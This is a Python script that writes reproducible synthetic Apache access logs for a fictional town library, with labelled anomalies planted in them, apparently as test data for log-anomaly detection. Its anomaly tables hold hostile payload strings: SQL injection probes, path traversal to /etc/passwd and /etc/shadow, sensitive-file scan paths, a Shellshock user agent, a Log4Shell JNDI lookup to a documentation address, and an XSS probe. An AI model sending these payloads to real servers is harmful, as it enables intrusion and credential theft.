"""Write a web server's access log, in Apache's combined format, of any length, with anomalies hidden in it.

    python samples/weblog.py --lines 100000 --seed 7 > access.log
    python samples/weblog.py --lines 100000 --seed 7 --anomalies 12 --truth truth.jsonl > access.log

The site is a town library that does not exist. Its visitors follow links, load the parts of each page and come in a
daily rhythm. Every anomaly takes the place of some lines of this traffic; `--truth` says which: one JSON object a line
with `line` (counted from 1), `kind` and `anomaly` (which of them, counted from 1).

The same arguments give the same bytes, and memory does not grow with the number of lines. All addresses are from
ranges that are reserved for documentation and tests, all names end with .example.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import random
import sys
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import TypeVar

T = TypeVar("T")

START = datetime(2024, 3, 4, 6, 30, tzinfo=timezone.utc)  # a Monday
# strftime would ask the locale
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
# Page views a minute, and visitors at one time, by hour.
RHYTHM = (3, 2, 1, 1, 1, 2, 5, 9, 14, 18, 20, 21, 19, 20, 21, 20, 19, 18, 16, 14, 12, 10, 7, 5)
DAY_MS = 86_400_000

SITE = "https://library.lanternwick.example"
BOOKS = 4_000
SUBJECTS = ("canals", "lighthouses", "birds", "cookery", "poetry", "railways", "gardens", "clocks", "weather", "music")
ASSETS = {  # path: bytes
    "/assets/site.css": 18_412,
    "/assets/site.js": 52_907,
    "/assets/logo.svg": 3_366,
    "/assets/reading-room.jpg": 148_220,
    "/favicon.ico": 1_150,
}
PAGES: dict[str, tuple[tuple[str, int], ...]] = {  # page: where its readers go, by weight; {} is filled in
    "/": (
        ("/catalogue", 8),
        ("/catalogue/search?q={subject}", 6),
        ("/opening-hours", 4),
        ("/events", 3),
        ("/login", 2),
    ),
    "/catalogue": (("/catalogue/search?q={subject}", 6), ("/books/{book}", 5), ("/", 1)),
    "/catalogue/search?q={subject}": (("/books/{book}", 9), ("/catalogue/search?q={subject}", 3), ("/", 1)),
    "/books/{book}": (("/books/{book}", 4), ("/covers/{book}.jpg", 5), ("/catalogue", 2), ("/login", 1)),
    "/covers/{book}.jpg": (("/books/{book}", 5), ("/catalogue", 1)),
    "/opening-hours": (("/", 3), ("/events", 1)),
    "/events": (("/events/{event}", 4), ("/", 2)),
    "/events/{event}": (("/events", 2), ("/", 1)),
    "/login": (("/account", 6), ("/", 1)),
    "/account": (("/account/loans", 4), ("/catalogue", 3), ("/logout", 2)),
    "/account/loans": (("/account/renew?loan={book}", 3), ("/account", 2), ("/logout", 2)),
    "/account/renew?loan={book}": (("/account/loans", 4), ("/logout", 1)),
    "/logout": (("/", 1),),
}
POSTS = ("/login", "/account/renew")
ENTRANCES = (("/", 10), ("/books/{book}", 5), ("/catalogue", 3), ("/events", 2), ("/opening-hours", 2))
REFERRERS = (
    ("-", 9),
    ("https://search.example/", 8),
    ("https://lanternwick.example/town/services", 3),
    ("https://news.lanternwick.example/", 1),
)
BROWSERS = (
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 "
     "Safari/537.36", 9),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 "
     "Mobile/15E148 Safari/604.1", 6),
    ("Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36", 6),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 "
     "Safari/605.1.15", 4),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", 3),
)  # fmt: skip
CRAWLER = "Mozilla/5.0 (compatible; LanternBot/2.1; +https://lanternbot.example/about)"


@dataclass(frozen=True, slots=True)
class Entry:
    """One request; `ms` is its time in milliseconds after START."""

    ms: int
    client: str
    request: str
    status: int
    size_bytes: int
    referrer: str
    agent: str

    def __str__(self) -> str:
        t = START + timedelta(milliseconds=self.ms)
        when = f"{t.day:02}/{MONTHS[t.month - 1]}/{t.year}:{t.hour:02}:{t.minute:02}:{t.second:02} +0000"
        size = self.size_bytes or "-"
        return f'{self.client} - - [{when}] "{self.request}" {self.status} {size} "{self.referrer}" "{self.agent}"'


# Only `Random.random` gives the same numbers in every version of Python, so everything is drawn through it.


def below(rng: random.Random, n: int) -> int:
    """A number of 0 to n - 1."""
    return int(rng.random() * n)


def pick(rng: random.Random, values: Sequence[T]) -> T:
    return values[below(rng, len(values))]


def weighted(rng: random.Random, choices: Sequence[tuple[T, int]]) -> T:
    at = below(rng, sum(weight for _, weight in choices))
    for value, weight in choices:
        at -= weight
        if at < 0:
            return value
    raise AssertionError("the weights do not add up")


# ---- the usual traffic ----


@dataclass(slots=True)
class Visitor:
    """Somebody on the site: where they are, how many pages they will still look at, what their browser still loads."""

    client: str
    agent: str
    referrer: str
    page: str
    pages_left: int
    has_cache: bool
    pending: list[str] = field(default_factory=list)


def arrival(rng: random.Random) -> Visitor:
    is_crawler = rng.random() < 0.04
    if is_crawler:
        client = f"192.0.2.{1 + below(rng, 12)}"
    else:
        client = f"198.{18 + below(rng, 2)}.{below(rng, 256)}.{1 + below(rng, 254)}"
    return Visitor(
        client=client,
        agent=CRAWLER if is_crawler else weighted(rng, BROWSERS),
        referrer="-" if is_crawler else weighted(rng, REFERRERS),
        page="/books/{book}" if is_crawler else weighted(rng, ENTRANCES),
        pages_left=(20 if is_crawler else 1) + below(rng, 12),
        has_cache=is_crawler or rng.random() < 0.35,
    )


def view(rng: random.Random, visitor: Visitor, ms: int) -> Entry:
    """The visitor loads a page, and will look at another one next."""
    path = visitor.page.format(book=1 + below(rng, BOOKS), subject=pick(rng, SUBJECTS), event=1 + below(rng, 90))
    method = "POST" if path.split("?")[0] in POSTS and rng.random() < 0.8 else "GET"
    chance = rng.random()
    status, size_bytes = 200, 4_000 + below(rng, 22_000)
    if visitor.page.startswith("/covers/"):
        size_bytes += 30_000
    if method == "POST":
        status, size_bytes = (302, 0) if chance < 0.93 else (401, 1_204)
    elif chance < 0.012:
        status, size_bytes = 404, 2_310
    elif chance < 0.0125:
        status, size_bytes = 503, 529
    entry = Entry(ms, visitor.client, f"{method} {path} HTTP/1.1", status, size_bytes, visitor.referrer, visitor.agent)
    if visitor.agent != CRAWLER:
        visitor.referrer = SITE + path
        if not visitor.page.startswith("/covers/"):
            visitor.pending = [asset for asset in ASSETS if rng.random() < (0.08 if visitor.has_cache else 0.9)]
        visitor.has_cache = visitor.has_cache or rng.random() < 0.9
    visitor.page = weighted(rng, PAGES[visitor.page])
    visitor.pages_left -= 1
    return entry


def load_part(rng: random.Random, visitor: Visitor, ms: int) -> Entry:
    """The visitor's browser loads the next part of the page."""
    asset = visitor.pending.pop(0)
    status, size_bytes = (304, 0) if rng.random() < 0.15 else (200, ASSETS[asset])
    return Entry(ms, visitor.client, f"GET {asset} HTTP/1.1", status, size_bytes, visitor.referrer, visitor.agent)


def traffic(seed: int) -> Iterator[Entry]:
    """Requests without end, in the order of time."""
    rng = random.Random(seed)
    visitors: list[Visitor] = []
    ms = 0
    next_check = 0
    while True:
        if ms >= next_check:  # the monitoring service, once in five minutes
            yield Entry(ms, "192.0.2.250", "GET /health HTTP/1.1", 200, 15, "-", "uptime-check/1.4")
            next_check += 300_000
        now = START + timedelta(milliseconds=ms)
        per_minute = RHYTHM[now.hour] * (0.6 if now.weekday() == 6 else 1)
        if not visitors or (len(visitors) < per_minute and rng.random() < 0.3):
            visitors.append(arrival(rng))
        place = below(rng, len(visitors))
        visitor = visitors[place]
        yield view(rng, visitor, ms)
        while visitor.pending:
            ms += below(rng, 120)
            yield load_part(rng, visitor, ms)
        if visitor.pages_left == 0:
            del visitors[place]
        ms += int(2 * 60_000 / per_minute * rng.random())


# ---- anomalies ----

SQL_PROBES = (
    "%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20name,password%20FROM%20users--",
    "%27%3B%20DROP%20TABLE%20loans--",
    "1%20AND%20SLEEP(5)",
    "%27%20OR%201%3D1%23",
)
TRAVERSALS = (
    "/covers/../../../../etc/passwd",
    "/covers/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/download?file=....//....//....//etc/hosts",
    "/assets/%2e%2e/%2e%2e/config/database.yml",
)
SCANNED = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/backup.zip",
    "/admin/config.php",
    "/server-status",
    "/xmlrpc.php",
    "/old/index.bak",
    "/cgi-bin/test.cgi",
)
STRANGE_AGENTS = (
    "() { :;}; /bin/cat /etc/passwd",
    "${jndi:ldap://203.0.113.66/a}",
    "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
    "<script>alert(1)</script>",
)
GARBLED = (
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    r"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie",
    r"\x05\x01\x00",
)
TIME_JUMPS_MS = (-19_786 * DAY_MS, -211 * DAY_MS, 403 * DAY_MS, 27_333 * DAY_MS)


def attacker(entry: Entry, client: str, request: str, status: int, size_bytes: int) -> Entry:
    return Entry(entry.ms, client, f"{request} HTTP/1.1", status, size_bytes, "-", "python-requests/2.31.0")


# Each makes line i of its anomaly out of the usual entry in that place; `client` is one address for all its lines.


def sql_injection(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    status = pick(rng, (200, 400, 500))
    return attacker(entry, client, f"GET /catalogue/search?q={pick(rng, SQL_PROBES)}", status, 900 + below(rng, 4_000))


def path_traversal(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return attacker(entry, client, f"GET {pick(rng, TRAVERSALS)}", pick(rng, (400, 403, 404)), 512)


def scanner(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return attacker(entry, client, f"GET {SCANNED[i % len(SCANNED)]}", 404, 2_310)


def login_brute_force(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return attacker(entry, client, "POST /login", 401, 1_204)


def error_burst(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, status=500, size_bytes=612)


def strange_agent(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, agent=pick(rng, STRANGE_AGENTS))


def time_jump(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, ms=entry.ms + pick(rng, TIME_JUMPS_MS))


def huge_response(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, status=200, size_bytes=6_000_000_000 + below(rng, 900_000_000))


def garbled_request(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return Entry(entry.ms, client, pick(rng, GARBLED), 400, 226, "-", "-")


def odd_method(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(attacker(entry, client, f"{pick(rng, ('TRACE', 'DEBUG', 'PROPFIND'))} /", 405, 178), agent="-")


def referrer_spam(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, client=client, referrer=f"http://cheap-watches-{1 + below(rng, 99)}.example/win?now")


def impossible_status(rng: random.Random, entry: Entry, client: str, i: int) -> Entry:
    return replace(entry, status=pick(rng, (0, 99, 777, 999)))


Anomaly = Callable[[random.Random, Entry, str, int], Entry]
KINDS: tuple[tuple[str, int, Anomaly], ...] = (  # name, lines at most
    ("sql-injection", 5, sql_injection),
    ("path-traversal", 4, path_traversal),
    ("scanner", 10, scanner),
    ("login-brute-force", 24, login_brute_force),
    ("error-burst", 16, error_burst),
    ("strange-agent", 1, strange_agent),
    ("time-jump", 1, time_jump),
    ("huge-response", 1, huge_response),
    ("garbled-request", 1, garbled_request),
    ("odd-method", 1, odd_method),
    ("referrer-spam", 6, referrer_spam),
    ("impossible-status", 1, impossible_status),
)


def kinds(rng: random.Random) -> Iterator[tuple[str, int, Anomaly]]:
    """Kinds without end: all of them in a random order, then all of them in another one."""
    while True:
        left = list(KINDS)
        while left:
            yield left.pop(below(rng, len(left)))


@dataclass(frozen=True, slots=True)
class Truth:
    """What hides in a line; `anomaly` counts from 1."""

    line: int
    kind: str
    anomaly: int


def log(lines: int, seed: int, anomalies: int = 12) -> Iterator[tuple[Entry, Truth | None]]:
    """The entries of a log, each with what hides in it.

    The log is cut into as many even parts as there are anomalies, and each part has one. It begins anywhere in its
    part, is mixed with usual lines, and ends before the part does; where the part is too short it has fewer lines.
    """
    usual = traffic(2 * seed)
    rng = random.Random(2 * seed + 1)
    chosen = kinds(rng)
    line = 0
    for anomaly in range(1, anomalies + 1):
        end = lines * anomaly // anomalies
        kind, most, make = next(chosen)
        client = f"203.0.113.{1 + below(rng, 254)}"
        n_lines = min(most, end - line)
        begin = line + below(rng, end - line - n_lines + 1)
        made = 0
        while line < end:
            entry = next(usual)
            line += 1
            is_due = made < n_lines and line > begin
            if is_due and (made == 0 or end - line < n_lines - made or rng.random() < 0.6):
                yield make(rng, entry, client, made), Truth(line, kind, anomaly)
                made += 1
            else:
                yield entry, None
    yield from ((entry, None) for entry in itertools.islice(usual, lines - line))


def main() -> None:
    usage, _, details = (__doc__ or "").partition("\n\nThe site")
    parser = argparse.ArgumentParser(
        description=usage,
        epilog=f"The site{details}\nKinds of anomalies:\n" + "\n".join(f"    {name}" for name, _, _ in KINDS),
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("--lines", type=int, default=10_000, help="length of the log (default: 10000)")
    parser.add_argument("--seed", type=int, default=0, help="another seed, another log (default: 0)")
    parser.add_argument("--anomalies", type=int, help="how many to plant (default: 12, in a shorter log one a line)")
    parser.add_argument("--truth", type=Path, metavar="FILE", help="write here which lines are anomalous")
    given = parser.parse_args()
    if given.anomalies is None:
        given.anomalies = min(12, given.lines)
    for name in ("lines", "seed", "anomalies"):
        if getattr(given, name) < 0:
            parser.error(f"--{name}: expected 0 or more, found {getattr(given, name)}")
    if given.anomalies > given.lines:
        parser.error(f"--anomalies: expected at most one a line, found {given.anomalies} for {given.lines} lines")
    with contextlib.ExitStack() as stack:
        try:
            truths = stack.enter_context(given.truth.open("w", encoding="utf-8")) if given.truth else None
        except OSError as error:
            parser.error(f"--truth: cannot write '{given.truth}': {error.strerror}")
        try:
            for entry, truth in log(given.lines, given.seed, given.anomalies):
                sys.stdout.write(f"{entry}\n")
                if truth and truths:
                    truths.write(json.dumps({"line": truth.line, "kind": truth.kind, "anomaly": truth.anomaly}) + "\n")
            sys.stdout.flush()
        except BrokenPipeError:  # `| head` has seen enough
            os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())


if __name__ == "__main__":
    main()
